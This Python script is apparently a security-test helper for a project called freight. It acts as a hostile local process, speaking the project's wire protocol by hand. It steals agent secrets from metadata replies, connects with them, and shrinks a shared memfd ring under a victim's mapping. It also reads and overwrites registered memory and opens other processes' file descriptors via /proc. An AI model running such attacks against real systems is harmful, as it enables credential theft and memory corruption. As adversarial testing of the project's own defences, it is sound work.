#!/usr/bin/env python3
"""A hostile process on the same host, speaking freight's wire protocol by hand.

It does what an attacker with a shell on the host would: ask listeners for metadata,
open connections with what it stole or guessed, offer the victim a notification outbox
it owns (and shrink it under the victim's mapping), read and write registered memory
over tcp. It uses the standard library only, so that the tests can run it as another
user with the system's python3, and it imports nothing of freight: everything it knows
of the protocol is written out below, as an outsider would have to.

    python3 hostile_peer.py ATTACK 'JSON ARGUMENTS'

prints one JSON object, what happened, as its last line. The attacks:

    metadata   {"addr", "token"?}                      ask for the agent's metadata
    hello      {"addr", "role", "agent_id", "secret", "token"?}
                                                       open a connection, up to the welcome
    outbox     {"addr", "agent_id", "secret", "token"?, "sealed", "shrink"}
                                                       offer an outbox ring in a memfd;
                                                       once mapped, shrink it and ring
    read       {"addr", "agent_id", "secret", "token"?, "region", "at", "len"}
                                                       READ over a tcp data stream
    map        {"pid", "fd"}                           open another process's memfd
    siege      {"addrs", "seconds", "token"?}          for a while, every address: ask for
                                                       metadata, guess secrets, try to
                                                       read and write; counts what worked

The wire format (see crates/freight-proto/src/frame.rs): a little-endian u32 length, then
the postcard encoding of a frame: an enum is its variant's index as a varint, integers
are varints (signed ones zigzagged), strings and byte vectors a varint length and the
bytes, an option 0 or 1 and the value, a struct its fields in order.
"""

from __future__ import annotations

import fcntl
import json
import os
import socket
import struct
import sys
import time

PROTOCOL_VERSION = 8

# Frame variants, in the order of the `Frame` enum.
HELLO, WELCOME, REFUSED, WRITE, WRITE_ACK, READ, READ_DATA, NOTIFY = range(8)
METADATA, OUTBOX, OUTBOX_REPLY, WAKE = 9, 10, 11, 12
LIVE_REGIONS = 22
ROLES = {"control": 0, "data": 1, "metadata": 2, "fabric": 3}

# The notification ring's header (crates/freight-proto/src/notif_ring.rs).
RING_LINE = 128
RING_HEADER = 3 * RING_LINE
RING_MAGIC = b"FRTRING1"


# ------------------------------------------------------------------ postcard, by hand


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def zigzag(n: int) -> bytes:
    return varint((n << 1) ^ (n >> 63) if n < 0 else n << 1)


def blob(b: bytes) -> bytes:
    return varint(len(b)) + b


def text(s: str) -> bytes:
    return blob(s.encode())


class Reader:
    def __init__(self, data: bytes) -> None:
        self.data, self.at = data, 0

    def varint(self) -> int:
        n, shift = 0, 0
        while True:
            b = self.data[self.at]
            self.at += 1
            n |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                return n

    def take(self, n: int) -> bytes:
        out = self.data[self.at:self.at + n]
        if len(out) != n:
            raise ValueError("truncated")
        self.at += n
        return out

    def blob(self) -> bytes:
        return self.take(self.varint())

    def text(self) -> str:
        return self.blob().decode(errors="replace")

    def option_text(self):
        return self.text() if self.take(1) == b"\x01" else None


def frame(variant: int, body: bytes = b"") -> bytes:
    payload = varint(variant) + body
    return struct.pack("<I", len(payload)) + payload


def read_frame(sock: socket.socket):
    """(variant, Reader over its fields), or None when the peer closed."""
    head = recv_exactly(sock, 4)
    if head is None:
        return None
    (n,) = struct.unpack("<I", head)
    body = recv_exactly(sock, n)
    if body is None:
        return None
    r = Reader(body)
    return r.varint(), r


def recv_exactly(sock: socket.socket, n: int):
    out = bytearray()
    while len(out) < n:
        try:
            chunk = sock.recv(n - len(out))
        except (ConnectionResetError, BrokenPipeError):
            return None
        if not chunk:
            return None
        out += chunk
    return bytes(out)


# ------------------------------------------------------------------ the protocol


def hello(role: str, agent_id: int = 0, secret: bytes = b"", token: bytes = b"", index: int = 0) -> bytes:
    body = varint(PROTOCOL_VERSION) + varint(ROLES[role])
    if role == "data":
        body += varint(index)
    body += text("hostile") + varint(12345) + varint(agent_id) + blob(secret) + blob(token)
    return frame(HELLO, body)


def dial(addr: str, data: bytes, timeout: float = 10.0) -> socket.socket:
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
    sock.sendall(data)
    return sock


def answer(sock: socket.socket) -> dict:
    """The listener's answer to a hello: welcome, refusal (with its reason), metadata."""
    got = read_frame(sock)
    if got is None:
        return {"closed": True}
    variant, r = got
    if variant == WELCOME:
        return {"welcome": True, "agent_id": r.varint()}
    if variant == REFUSED:
        return {"refused": r.text()}
    if variant == METADATA:
        return {"metadata": r.blob()}
    return {"unexpected": variant}


def parse_metadata(md: bytes) -> dict:
    """What the metadata gives away: the agent's name, id and secret."""
    if md[:4] != b"FRMD":
        raise ValueError("not freight metadata")
    r = Reader(md[6:])
    return {"name": r.text(), "agent_id": r.varint(), "secret": r.take(16).hex()}


def ask_metadata(addr: str, token: bytes = b"") -> dict:
    try:
        with dial(addr, hello("metadata", token=token)) as sock:
            got = answer(sock)
    except OSError as e:
        return {"error": str(e)}
    if "metadata" in got:
        return {"stolen": parse_metadata(got.pop("metadata"))}
    return got


def open_connection(addr: str, role: str, agent_id: int, secret: bytes, token: bytes):
    """(socket, answer): a socket that was welcomed, or None and the refusal."""
    sock = dial(addr, hello(role, agent_id, secret, token))
    got = answer(sock)
    if not got.get("welcome"):
        sock.close()
        return None, got
    if role == "control":
        first = read_frame(sock)  # the target's live regions come first
        if first is None or first[0] != LIVE_REGIONS:
            sock.close()
            return None, {"unexpected": first and first[0]}
    return sock, got


def host_identity() -> bytes:
    def read(path: str) -> str:
        with open(path) as f:
            return f.read().strip()

    return (text(read("/proc/sys/kernel/hostname")) + text(read("/proc/sys/kernel/random/boot_id"))
            + varint(os.stat("/proc/self/ns/pid").st_ino) + varint(os.getpid()))


def ring_file(sealed: bool, capacity: int = 4096) -> int:
    """A memfd holding an empty notification ring of `capacity` bytes, sealed at its
    size or not."""
    fd = os.memfd_create("freight-seg-1", os.MFD_ALLOW_SEALING)
    os.ftruncate(fd, RING_HEADER + capacity)
    os.pwrite(fd, struct.pack("<Q", 1), RING_LINE + 8)  # the consumer may be asleep
    os.pwrite(fd, RING_MAGIC + struct.pack("<Q", capacity), 2 * RING_LINE)
    if sealed:
        fcntl.fcntl(fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW)
    return fd


def offer_outbox(a: dict) -> dict:
    sock, got = open_connection(a["addr"], "control", a["agent_id"], bytes.fromhex(a["secret"]),
                                a.get("token", "").encode())
    if sock is None:
        return {"connected": False, **got}
    fd = ring_file(a["sealed"])
    size = os.fstat(fd).st_size
    with sock:
        sock.sendall(frame(OUTBOX, host_identity() + zigzag(fd) + varint(size)))
        reply = read_frame(sock)
        if reply is None or reply[0] != OUTBOX_REPLY:
            return {"connected": True, "reply": None}
        error = reply[1].option_text()
        out = {"connected": True, "mapped": error is None, "refusal": error}
        if error is None and a.get("shrink"):
            try:
                os.ftruncate(fd, 0)
                out["shrunk"] = True
            except OSError as e:
                out["shrunk"] = False
                out["shrink_error"] = e.strerror
            # Ring: the victim drains, reading the ring's header where the pages were.
            try:
                for _ in range(3):
                    sock.sendall(frame(WAKE))
                    time.sleep(0.2)
                sock.settimeout(2.0)
                sock.sendall(frame(WAKE))
                out["still_connected"] = sock.recv(1, socket.MSG_PEEK) != b""
            except socket.timeout:
                out["still_connected"] = True
            except OSError:
                out["still_connected"] = False
    os.close(fd)
    return out


def read_memory(a: dict) -> dict:
    sock, got = open_connection(a["addr"], "data", a["agent_id"], bytes.fromhex(a["secret"]),
                                a.get("token", "").encode())
    if sock is None:
        return {"connected": False, **got}
    with sock:
        seg = varint(a["region"]) + varint(a["at"]) + varint(a["len"])
        sock.sendall(frame(READ, varint(1) + varint(1) + seg))
        reply = read_frame(sock)
        if reply is None or reply[0] != READ_DATA:
            return {"connected": True, "reply": None}
        _tag, error = reply[1].varint(), reply[1].option_text()
        if error is not None:
            return {"connected": True, "refusal": error}
        data = recv_exactly(sock, a["len"])
        return {"connected": True, "read": None if data is None else data.hex()}


def map_other(a: dict) -> dict:
    try:
        fd = os.open(f"/proc/{a['pid']}/fd/{a['fd']}", os.O_RDWR)
    except OSError as e:
        return {"opened": False, "error": e.strerror}
    os.close(fd)
    return {"opened": True}


def siege(a: dict) -> dict:
    """Everything a stranger can try against every address, over and over."""
    token = a.get("token", "").encode()
    tally = {"attempts": 0, "metadata": 0, "welcomed": 0, "read": 0, "written": 0, "refusals": {}}
    deadline = time.monotonic() + a["seconds"]
    while time.monotonic() < deadline:
        for addr in a["addrs"]:
            tally["attempts"] += 1
            got = ask_metadata(addr, token)
            stolen = got.get("stolen")
            if stolen:
                tally["metadata"] += 1
            else:
                reason = got.get("refused", got.get("error", "closed"))
                tally["refusals"][reason] = tally["refusals"].get(reason, 0) + 1
            secret = bytes.fromhex(stolen["secret"]) if stolen else os.urandom(16)
            agent_id = stolen["agent_id"] if stolen else 1
            for role in ("data", "control"):
                try:
                    sock, got = open_connection(addr, role, agent_id, secret, token)
                except OSError:
                    continue
                if sock is None:
                    reason = got.get("refused", "closed")
                    tally["refusals"][reason] = tally["refusals"].get(reason, 0) + 1
                    continue
                tally["welcomed"] += 1
                with sock:
                    # Scribble over the first MiB of every region key it can name.
                    for key in range(1, 8):
                        seg = varint(key) + varint(0) + varint(4096)
                        try:
                            sock.sendall(frame(WRITE, varint(1) + varint(1) + seg + b"\x00") + os.urandom(4096))
                            ack = read_frame(sock)
                        except OSError:
                            break
                        if ack and ack[0] == WRITE_ACK:
                            ack[1].varint()
                            if ack[1].option_text() is None:
                                tally["written"] += 1
    return tally


ATTACKS = {
    "metadata": lambda a: ask_metadata(a["addr"], a.get("token", "").encode()),
    "hello": lambda a: _hello(a),
    "outbox": offer_outbox,
    "read": read_memory,
    "map": map_other,
    "siege": siege,
}


def _hello(a: dict) -> dict:
    try:
        sock, got = open_connection(a["addr"], a["role"], a["agent_id"], bytes.fromhex(a["secret"]),
                                    a.get("token", "").encode())
    except OSError as e:
        return {"error": str(e)}
    if sock is not None:
        sock.close()
    return got


def main() -> None:
    attack, args = sys.argv[1], json.loads(sys.argv[2])
    result = ATTACKS[attack](args)
    result["uid"] = os.getuid()
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
